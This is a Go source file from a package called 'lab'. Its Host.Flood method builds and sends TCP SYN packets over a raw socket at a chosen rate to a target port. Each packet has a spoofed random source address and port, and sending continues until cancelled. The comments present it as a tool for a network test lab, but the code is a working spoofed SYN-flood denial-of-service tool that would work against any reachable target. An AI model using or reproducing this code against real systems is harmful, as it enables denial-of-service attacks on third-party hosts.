package lab

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"
)

// floodTick is how often a flood sends what is due.
const floodTick = time.Millisecond

// floodPackets is how many are made before it begins, so that the flooder does
// not take the CPU that the flooded is to have. After so many it repeats itself.
const floodPackets = 1 << 17

// Flood sends SYNs to a port, as many a second as rate says, each from a random
// address of a network and a random port, until ctx ends. Nobody answers for
// those addresses; replies go where the host's route to them leads. The host
// itself is one of the lab's, and its packets may carry any source. It returns
// how many it sent.
func (h *Host) Flood(ctx context.Context, from netip.Prefix, to netip.AddrPort, rate int) (sent int, err error) {
	if from.Addr().BitLen() != to.Addr().BitLen() {
		return 0, errors.New("a flood's addresses are of one family")
	}
	family := unix.AF_INET
	if to.Addr().Is6() {
		family = unix.AF_INET6
	}
	var fd int
	err = h.Do(func() error {
		fd, err = unix.Socket(family, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
		return err
	})
	if err != nil {
		return 0, fmt.Errorf("raw socket: %w", err)
	}
	defer unix.Close(fd)
	tick := time.NewTicker(floodTick)
	defer tick.Stop()
	random := rand.New(rand.NewPCG(uint64(rate), 1))
	src := func() netip.AddrPort {
		return netip.AddrPortFrom(randomAddr(random, from), uint16(1024+random.IntN(60_000)))
	}
	packets := make([][]byte, floodPackets)
	var address unix.Sockaddr
	for i := range packets {
		packets[i], address = Segment{Src: src(), Dst: to, Seq: random.Uint32(), Flags: SYN}.packet()
	}
	for begin := time.Now(); ; {
		select {
		case <-ctx.Done():
			return sent, nil
		case <-tick.C:
		}
		for due := int(time.Since(begin).Seconds() * float64(rate)); sent < due; sent++ {
			// What does not fit into a queue on the way is lost, as it would be.
			err := unix.Sendto(fd, packets[sent%len(packets)], 0, address)
			if err != nil && !errors.Is(err, unix.ENOBUFS) && !errors.Is(err, unix.EPERM) {
				return sent, fmt.Errorf("sending a SYN to %v: %w", to, err)
			}
		}
	}
}

// randomAddr returns one of a network, whose prefix is of whole bytes.
func randomAddr(random *rand.Rand, from netip.Prefix) netip.Addr {
	b := from.Addr().AsSlice()
	var r [16]byte
	binary.NativeEndian.PutUint64(r[:], random.Uint64())
	binary.NativeEndian.PutUint64(r[8:], random.Uint64())
	copy(b[from.Bits()/8:], r[:])
	addr, _ := netip.AddrFromSlice(b)
	return addr
}
